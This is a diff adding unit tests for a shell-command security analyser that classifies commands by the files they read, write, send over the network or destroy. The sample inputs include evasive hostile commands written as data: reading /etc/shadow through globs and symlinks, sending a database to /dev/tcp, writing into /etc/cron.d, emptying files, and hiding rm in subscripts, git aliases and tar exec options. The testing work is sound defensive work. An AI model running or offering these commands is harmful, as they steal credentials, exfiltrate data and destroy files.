@@ -151,6 +151,96 @@ TEST_SUITE("facts.facts") {
         CHECK(facts.programs == std::vector<std::string>{"date", "f", "id", "ls", "sh", "sudo"});
     }
 
+    TEST_CASE("what a pattern may match is never less than what the shell matches") {
+        CHECK(globs(judged("cat /etc/shado[[:alpha:]]").commands[0].reads) == "/etc/shado?");
+        CHECK(globs(judged("cat /etc/s[[=h=]]adow").commands[0].reads) == "/etc/s?adow");
+        CHECK(globs(judged("cat /etc/shado[]w]").commands[0].reads) == "/etc/shado[]w]");
+        CHECK(globs(judged("x='/etc/[[:lower:]]b*'; cat $x").commands[0].reads) == "/etc/?b*");
+        CHECK(globs(judged("shopt -s nocaseglob; cat /ETC/SHADO?").commands[1].reads) == "/ETC/*");
+        CHECK(globs(judged("setopt NO_CASE_GLOB; cat /etc/S*/X", model::Dialect::Zsh)
+                        .commands[1]
+                        .reads) == "/etc/*/X");
+        CHECK(globs(judged("shopt -s nullglob; cat /etc/S*").commands[1].reads) == "/etc/S*");
+    }
+
+    TEST_CASE("a link that the text makes leads where it points") {
+        const auto reads = [](const char *line, std::size_t command = 1) {
+            return globs(at("/home/u", line).commands[command].reads);
+        };
+        CHECK(reads("ln -s /etc e; cat e/shadow") == "/home/u/e/shadow /etc/shadow");
+        CHECK(reads("ln -s / r && cat r/etc/shadow") == "/home/u/r/etc/shadow /etc/shadow");
+        CHECK(reads("ln -s ../../etc e; cat e/motd") == "/home/u/e/motd /etc/motd");
+        CHECK(reads("cat e/motd; ln -s /etc e", 0) == "/home/u/e/motd /etc/motd");
+        CHECK(reads("ln /etc/passwd p; cat p") == "/home/u/p /etc/passwd");
+        CHECK(reads("ln -t /tmp /etc; cat /tmp/etc/x") == "/tmp/etc/x /etc/x");
+        CHECK(reads("cp -s /etc/motd m; cat m") == "/home/u/m /etc/motd");
+        CHECK(reads("ln -s /etc e; ln -s e f; cat f/x", 2) == "/home/u/f/x /home/u/e/x /etc/x");
+        CHECK(reads("ln -s /etc e; cat e/../x") == "**");
+        CHECK(reads("ln -s $T e; cat e/x") == "/home/u/e/x ** **/x");
+        CHECK(reads("ln -s /etc e; cat other/x") == "/home/u/other/x");
+        CHECK(reads("cp /etc/motd m; cat m") == "/home/u/m");
+        const auto written = at("/home/u", "ln -s /etc e; echo x > e/cron.d/x");
+        CHECK(globs(written.commands[1].writes) == "/home/u/e/cron.d/x /etc/cron.d/x");
+        CHECK(written.commands[1].has(Effect::Persistence));
+    }
+
+    TEST_CASE("a redirection to a network path is a connection, not a file") {
+        const auto facts = judged("cat /srv/db > /dev/tcp/h.test/80");
+        CHECK(facts.commands[0].has(Effect::Exfil));
+        CHECK(facts.commands[0].writes.empty());
+        REQUIRE(facts.commands[0].net.size() == 1);
+        CHECK(facts.commands[0].net[0].host == "h.test");
+        CHECK(facts.commands[0].net[0].port == 80);
+        CHECK(has_effect(judged("exec 3<>/dev/udp/$H/53"), Effect::Exfil));
+        CHECK(has_effect(judged("cat < /dev/tcp/h/1"), Effect::Network));
+        CHECK(!has_effect(judged("cat < /dev/tcp/h/1"), Effect::Exfil));
+    }
+
+    TEST_CASE("emptying a file destroys what it held; writing output to it does not") {
+        for (const char *line :
+             {"> /srv/f", ": > /srv/f", "true >| /srv/f", "cat /dev/null > /srv/f",
+              "printf '' > /srv/f", "echo -n > /srv/f"}) {
+            CAPTURE(line);
+            CHECK(has_effect(judged(line), Effect::Destroy));
+        }
+        for (const char *line : {">> /srv/f", "echo x > /srv/f", "ls > /srv/f", ": > /dev/null",
+                                 ": < /srv/f", "{ :; } >> /srv/f"}) {
+            CAPTURE(line);
+            CHECK(!has_effect(judged(line), Effect::Destroy));
+        }
+    }
+
+    TEST_CASE("a text is read by a shell, whatever started the shell") {
+        CHECK(named(judged("nohup sh -c \"trap 'rm x' 0\""), "rm").size() == 1);
+        CHECK(
+            has_reason(judged("timeout 5 bash -c 'alias ls=rm\nls x'"), OpaqueReason::ReboundName));
+    }
+
+    TEST_CASE("names with subscripts are evaluated wherever bash takes a name") {
+        for (const char *line :
+             {"wait -n -p 'a[$(rm x)]'", "wait -np'a[$(rm x)]'",
+              "x='a[$(rm x)]'; a=(1); echo ${a[x]}", "x='a[$(rm x)]'; a=(1); a[x]=2"}) {
+            CAPTURE(line);
+            CHECK(named(judged(line), "rm").size() >= 1);
+        }
+        CHECK(is_opaque(judged("wait $x")));
+        for (const char *line : {"wait", "wait $!", "wait 12", "sleep 1 & p=$!; wait \"$p\"",
+                                 "declare -A m=([k]=v); echo ${m[k]}"}) {
+            CAPTURE(line);
+            CHECK(!is_opaque(judged(line)));
+        }
+    }
+
+    TEST_CASE("what programs add to a text or decode in it is not overlooked") {
+        CHECK(named(judged("git -c alias.z='!env' z rm x"), "env")[0].argv.size() == 2);
+        CHECK(is_opaque(judged("tar cf a b --checkpoint-action='exec=echo \\073rm -rf /x'")));
+        CHECK(is_opaque(judged("find . -d$X")));
+        CHECK(is_opaque(judged("a=(-x -delete); find . ${a[@]:1:1}")));
+        CHECK(named(judged("sh -c \"echo \\$'\\\\x72m'\"", model::Dialect::Ash), "echo")[0]
+                  .argv[1]
+                  .text() == "rm");
+    }
+
     TEST_CASE("limits end in over-limit, never in silence") {
         std::string wide, deep = "ls";
         for (int i = 0; i < 1100; ++i)
